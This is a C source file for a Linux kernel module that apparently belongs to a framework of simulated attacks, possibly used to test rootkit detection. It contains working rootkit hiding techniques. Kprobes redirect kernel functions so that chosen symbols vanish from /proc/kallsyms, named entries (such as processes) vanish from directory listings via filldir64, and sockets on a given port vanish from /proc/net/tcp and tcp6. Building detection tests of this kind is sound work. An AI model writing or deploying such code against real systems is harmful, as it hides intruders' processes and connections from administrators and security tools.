// SPDX-License-Identifier: GPL-2.0-only
/*
 * Filters what Linux tells user space: a kprobe at the function that prints a
 * line of /proc/kallsyms leaves out the lines of one symbol, or all; another,
 * at the function that adds an entry to a listing of a directory, leaves out
 * the entries with one name; and two, at the functions that print a line of
 * /proc/net/tcp and of /proc/net/tcp6, leave out the sockets with one port.
 */
#include <linux/fs.h>
#include <linux/kernel.h>
#include <linux/kprobes.h>
#include <linux/seq_file.h>
#include <linux/string.h>
#include <net/sock.h>
#include <asm/tsc.h>

#include "attacks.h"

/*
 * Where an iterator can have the symbol's name: after some 64-bit positions,
 * the address, the offset of the name (32 bits) and the type letter
 * (struct kallsym_iter, which is not exported). It is much longer than this.
 */
#define NAME_FIRST	29
#define NAME_LAST	61
#define ADDRESS_BEFORE	13

static char filtered[KSYM_NAME_LEN];

static bool is_filtered(const char *iterator)
{
	size_t at;

	if (!strcmp(filtered, "*"))
		return true;
	for (at = NAME_FIRST; at <= NAME_LAST; at += 8) {
		/* Before the end of a longer name, there is no address. */
		if (*(const long *)(iterator + at - ADDRESS_BEFORE) < 0 &&
		    !strcmp(iterator + at, filtered))
			return true;
	}
	return false;
}

static int show_nothing(struct seq_file *out, void *iterator)
{
	return 0;
}

static int before_show(struct kprobe *probe, struct pt_regs *regs)
{
	if (!is_filtered((const char *)regs->si))
		return 0;
	regs->ip = (unsigned long)show_nothing;
	return 1;
}

/* Without one, a probe by ftrace may not change the instruction pointer. */
static void after_show(struct kprobe *probe, struct pt_regs *regs, unsigned long flags)
{
}

static struct kprobe show_probe;

static int filter_begin(struct attack *attack, char *argument)
{
	/* Several functions have the name of the one that prints a line. */
	const struct seq_operations *lines = (void *)symbol("kallsyms_op");
	unsigned long flags;
	int error;

	if (!lines)
		return -ENOENT;
	if (!*argument || strscpy(filtered, argument, sizeof(filtered)) < 0)
		return -EINVAL;
	show_probe = (struct kprobe){
		.addr = (void *)lines->show,
		.pre_handler = before_show,
		.post_handler = after_show,
	};
	error = register_kprobe(&show_probe);
	if (error)
		return error;
	strscpy(attack->about, filtered, sizeof(attack->about));
	local_irq_save(flags);
	attack->tsc = rdtsc_ordered();
	attack_done(attack);
	local_irq_restore(flags);
	return 0;
}

/* The filter stays until it is undone. */
static bool filter_present(struct attack *attack)
{
	return true;
}

static void filter_undo(struct attack *attack)
{
	unregister_kprobe(&show_probe);
}

struct attack filter_symbol = {
	.name = "filter-symbol",
	.begin = filter_begin,
	.undo = filter_undo,
	.present = filter_present,
};

static char unlisted[16];

/* Linux goes on with the next entry. */
static bool add_nothing(struct dir_context *context, const char *name, int length, loff_t offset,
			u64 inode, unsigned int type)
{
	return true;
}

static int before_add(struct kprobe *probe, struct pt_regs *regs)
{
	const char *name = (const char *)regs->si;

	attack_called(&filter_process);
	if (regs->dx != strlen(unlisted) || strncmp(name, unlisted, regs->dx))
		return 0;
	regs->ip = (unsigned long)add_nothing;
	return 1;
}

static struct kprobe add_probe;

static int filter_process_begin(struct attack *attack, char *argument)
{
	unsigned long flags;
	int error;

	if (!*argument || strscpy(unlisted, argument, sizeof(unlisted)) < 0)
		return -EINVAL;
	add_probe = (struct kprobe){
		.symbol_name = "filldir64",
		.pre_handler = before_add,
		.post_handler = after_show,
	};
	error = register_kprobe(&add_probe);
	if (error)
		return error;
	strscpy(attack->about, unlisted, sizeof(attack->about));
	local_irq_save(flags);
	attack->tsc = rdtsc_ordered();
	attack_done(attack);
	local_irq_restore(flags);
	return 0;
}

static void filter_process_undo(struct attack *attack)
{
	unregister_kprobe(&add_probe);
}

struct attack filter_process = {
	.name = "filter-process",
	.begin = filter_process_begin,
	.undo = filter_process_undo,
	.present = filter_present,
};

static u16 filtered_port;

static int before_socket(struct kprobe *probe, struct pt_regs *regs)
{
	const struct sock_common *socket = (void *)regs->si;

	/* The line of titles comes first, without a socket. */
	if (regs->si == (unsigned long)SEQ_START_TOKEN || socket->skc_num != filtered_port)
		return 0;
	regs->ip = (unsigned long)show_nothing;
	return 1;
}

static struct kprobe socket_probes[2];

static int filter_socket_begin(struct attack *attack, char *argument)
{
	static struct kprobe *const probes[] = { &socket_probes[0], &socket_probes[1] };
	unsigned long flags;
	int error;

	error = kstrtou16(argument, 10, &filtered_port);
	if (error)
		return error;
	socket_probes[0] = socket_probes[1] = (struct kprobe){
		.pre_handler = before_socket,
		.post_handler = after_show,
	};
	socket_probes[0].symbol_name = "tcp4_seq_show";
	socket_probes[1].symbol_name = "tcp6_seq_show";
	error = register_kprobes((struct kprobe **)probes, ARRAY_SIZE(probes));
	if (error)
		return error;
	snprintf(attack->about, sizeof(attack->about), "port %u", filtered_port);
	local_irq_save(flags);
	attack->tsc = rdtsc_ordered();
	attack_done(attack);
	local_irq_restore(flags);
	return 0;
}

static void filter_socket_undo(struct attack *attack)
{
	unregister_kprobe(&socket_probes[0]);
	unregister_kprobe(&socket_probes[1]);
}

struct attack filter_socket = {
	.name = "filter-socket",
	.begin = filter_socket_begin,
	.undo = filter_socket_undo,
	.present = filter_present,
};
